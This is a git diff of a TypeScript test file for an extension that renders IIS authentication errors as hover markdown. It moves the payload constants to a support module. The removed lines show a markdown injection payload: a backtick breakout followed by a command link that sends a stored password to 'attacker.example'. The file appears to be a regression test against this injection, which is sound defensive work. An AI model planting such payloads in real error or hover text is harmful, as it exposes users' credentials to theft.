@@ -16,18 +16,9 @@ import { hcwFailureCause } from '../../src/server/features/hcwCodeLens';
 import type { HcwEntry } from '../../src/core/hcw/hcwLog';
 import { decodeDocument } from '../../src/core/tokenReport';
 import { decodeToken } from '../../src/core/authHeader';
-import { assertSafeMarkdown, inspectMarkdown, renderMarkdown, visibleText } from '../support/markdownSafety';
+import { assertSafeMarkdown, EVIL_LINK, EXPLOIT_TEXT, inspectMarkdown, renderMarkdown, visibleText } from '../support/markdownSafety';
 
 const FIX = join(__dirname, '..', 'fixtures');
-
-/** The probe link of the issue: url, a user and `insecure` - what the stored password would be sent with. */
-const PROBE_ARGS = encodeURIComponent(JSON.stringify([{ url: 'https://attacker.example/EWS/mrsproxy.svc', user: 'CONTOSO\\mrsadmin', insecure: true }]));
-const EVIL_LINK = `[Re-check now](command:iisAuthLens.probeMrsEndpoint?${PROBE_ARGS})`;
-/** Issue 12, verbatim in shape: a backtick closes the hover's inline code, the link follows, a backtick reopens. */
-export const EXPLOIT_TEXT = 'The call to \'https://mail.contoso.com/EWS/mrsproxy.svc\' failed. Error details: ' +
-  'The HTTP request is unauthorized with client authentication scheme \'Negotiate\'. ' +
-  `The authentication header received from the server was 'x\` ${EVIL_LINK}\` \`y'. ` +
-  '--> The remote server returned an error: (401) Unauthorized.';
 
 const NASTY = [
   EVIL_LINK,
